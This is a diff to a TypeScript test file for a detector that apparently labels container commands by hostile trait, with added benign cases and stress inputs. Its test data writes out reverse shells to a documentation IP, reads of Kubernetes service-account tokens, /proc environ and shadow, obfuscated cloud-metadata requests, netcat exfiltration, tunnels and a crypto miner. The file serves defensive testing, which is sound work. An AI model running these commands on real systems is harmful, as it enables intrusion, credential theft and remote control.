@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { betrayalsOf, type Trait } from '../../core/commands.ts';
+import { betrayalsOf } from '../../core/commands.ts';
+import type { Trait } from '../../core/traits.ts';
 
 const traitsOf = (...argv: string[]): Trait[] => betrayalsOf(argv).map(({ trait }) => trait);
 const sh = (script: string) => ['sh', '-c', script];
@@ -195,6 +196,47 @@ describe('betrayalsOf', () => {
     ['hidden-script', sh('echo $PAYLOAD | base64 -d | sh')],
     ['hidden-script', sh('eval "$(echo $X | base64 --decode)"')],
     ['attack-tool', ['/tmp/xmrig', '-o', 'pool:3333']],
+    ['attack-tool', ['/tmp/xmrig-6.21', '--config=/tmp/c.json']],
+    ['attack-tool', ['/tmp/cdk_linux_amd64', 'evaluate']],
+    ['reads-token', ['find', '/', '-path', '*serviceaccount/token', '-exec', 'cat', '{}', '+']],
+    [
+      'reads-token',
+      ['cat', '/host/var/lib/kubelet/pods/0b6f/volumes/kubernetes.io~projected/kube-api-access-7x2vq/token'],
+    ],
+    ['reads-credential', sh("find / -name '*token*' | xargs cat")],
+    ['reads-credential', sh("find / -name '*.pem' -exec cat {} ';'")],
+    ['reads-credential', sh('cat /proc/$$/environ')],
+    ['reads-credential', sh('cat /proc/$(pidof java)/environ')],
+    ['reads-credential', sh('for i in $(seq 1 9); do cat /proc/$i/environ; done')],
+    ['reads-credential', sh('cat /root/.a*/cred*')],
+    ['reads-credential', ['getent', 'shadow']],
+    ['reads-accounts', ['getent', 'passwd']],
+    ['dumps-environment', ['env', '-u', 'PATH']],
+    ['dumps-environment', ['ps', 'auxe']],
+    ['dumps-environment', sh('export')],
+    ['cloud-metadata', ['curl', '--resolve', 'x:80:169.254.169.254', 'http://x/']],
+    ['cloud-metadata', ['curl', 'http://proxy/?u=http%3A%2F%2F169.254.169.254%2F']],
+    ['cloud-metadata', sh('curl http://$(printf "%d.%d.%d.%d" 169 254 169 254)/')],
+    ['reverse-shell', ['php', '-r', '$s=fsockopen("203.0.113.7",9001);`sh <&3 >&3 2>&3`;']],
+    ['reverse-shell', ['php', '-r', '$s=fsockopen("203.0.113.7",9001);shell_exec("sh");']],
+    ['reverse-shell', sh('curl -Ns telnet://203.0.113.7:9001 | sh')],
+    ['reverse-shell', sh('(sh)0>/dev/tcp/203.0.113.7/4444')],
+    ['reverse-shell', ['busybox', 'telnetd', '-l', '/bin/sh', '-p', '9999']],
+    ['reverse-shell', sh('echo "* * * * * bash -i >& /dev/tcp/203.0.113.7/1 0>&1" | crontab -')],
+    [
+      'reverse-shell',
+      ['deno', 'eval', 'const c=await Deno.connect({hostname:"203.0.113.7",port:1});Deno.run({cmd:["sh"]})'],
+    ],
+    ['raw-socket', sh('nc 203.0.113.7 443 < /app/data/x')],
+    ['raw-socket', ['openssl', 's_client', '-quiet', '-connect', '203.0.113.7:443']],
+    ['tunnel', ['/tmp/chisel_1.9_linux_amd64', 'client', '203.0.113.7', 'R:socks']],
+    ['tunnel', ['python3', '-m', 'http.server', '8000']],
+    ['enters-host', ['python3', '-c', 'import os;os.chroot("/host")']],
+    ['download', sh('c$\u007bz}url http://files.example.com/x')],
+    ['download', ['perl', '-MLWP::Simple', '-e', 'getstore("http://files.example.com/x","/tmp/x")']],
+    ['file-out', sh('cat /app/data/x | base64')],
+    ['file-out', ['rsync', '--server', '--sender', '-logDtpre.iLsfxC', '.', '/app/data']],
+    ['file-in', ['install', '-m755', '/dev/stdin', '/tmp/x']],
     ['tool', ['kubectl', 'get', 'pods']],
     ['shell', ['/bin/bash']],
     ['shell', ['sh', '-c', 'clear; (bash || ash || sh)']],
@@ -239,6 +281,16 @@ describe('betrayalsOf', () => {
     [['wget', '-q', '-O', '/dev/null', 'http://10.0.3.9:9090/']],
     [['curl', '-H', 'X-Vault-Token: x', 'http://vault:8200/v1/secret/data']],
     [['curl', 'http://web.shop.svc.cluster.local/api']],
+    [['curl', 'http://redis.shop-prod:6379']],
+    [['cdk', 'deploy']],
+    [['hydra', 'serve', 'all']],
+    [['nc', '-v', '203.0.113.7', '443']],
+    [['openssl', 's_client', '-connect', '203.0.113.7:443', '-servername', 'shop.example.com']],
+    [['ps', 'aux']],
+    [['ps', '-C', 'node', '-o', 'pid']],
+    [['getent', 'passwd', 'app']],
+    [sh('export RAILS_ENV=production; bin/rake about')],
+    [sh('set -x && bin/rake about')],
     [['curl', '-sk', 'https://kubernetes.default.svc/healthz']],
     [['curl', '-s', 'https://shop.example.com/healthz']],
     [['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', 'https://shop.example.com/cart']],
@@ -350,26 +402,35 @@ describe('betrayalsOf', () => {
     );
   });
 
-  it('ends soon on text made to keep it busy', () => {
-    const hostile = [
-      `a=xxxxxxxx;${'a=$a$a;'.repeat(200)}echo $a`,
-      '$('.repeat(50_000),
-      '`'.repeat(50_001),
-      '{a,b}'.repeat(20_000),
-      '"$('.repeat(30_000),
-      'a|'.repeat(50_000),
-      `${'sh|'.repeat(20_000)}nc`,
-      "sh -c '".repeat(20_000),
-      'env '.repeat(50_000),
-      '/*'.repeat(50_000),
-      '169.254.'.repeat(20_000),
-      '"\'`'.repeat(40_000),
-      `${'A'.repeat(11)}=`.repeat(20_000),
-      'cat /etc/shadow;'.repeat(10_000),
-    ];
-    for (const text of hostile) {
-      for (const argv of [sh(text), [text], ['python3', '-c', text], text.split(' ')]) betrayalsOf(argv);
-    }
-    // Seconds; what is not linear here takes minutes.
-  }, 60_000);
+  it('calls a script of more commands than people write a hidden one', () => {
+    expect(traitsOf(...sh(`${':;'.repeat(20_000)}cat /etc/shadow`))).toEqual(['hidden-script']);
+  });
+
+  // What is not linear here takes minutes.
+  it.each([
+    ...[
+      '$(',
+      '`',
+      '{a,b}',
+      '"$(',
+      'a|',
+      'sh|',
+      "sh -c '",
+      'env ',
+      '/*',
+      '169.254.',
+      '"\'`',
+      'AAAAAAAAAAA=',
+      'cd a;',
+      'a',
+    ],
+    ...['eval ', '${a:-', '<(', 'curl x;', 'mkfifo a;', 'echo a|base64 -d|', '../', 'http://a.b/', 'cat /etc/shadow;'],
+  ])('ends soon on text made to keep it busy, of %j', (piece) => {
+    const text = piece.repeat(40_000 / piece.length);
+    for (const argv of [sh(text), [text], ['python3', '-c', text], text.split(' ')]) betrayalsOf(argv);
+  });
+
+  it('ends soon on a variable that doubles at every turn', () => {
+    betrayalsOf(sh(`a=xxxxxxxx;${'a=$a$a;'.repeat(200)}echo $a`));
+  });
 });
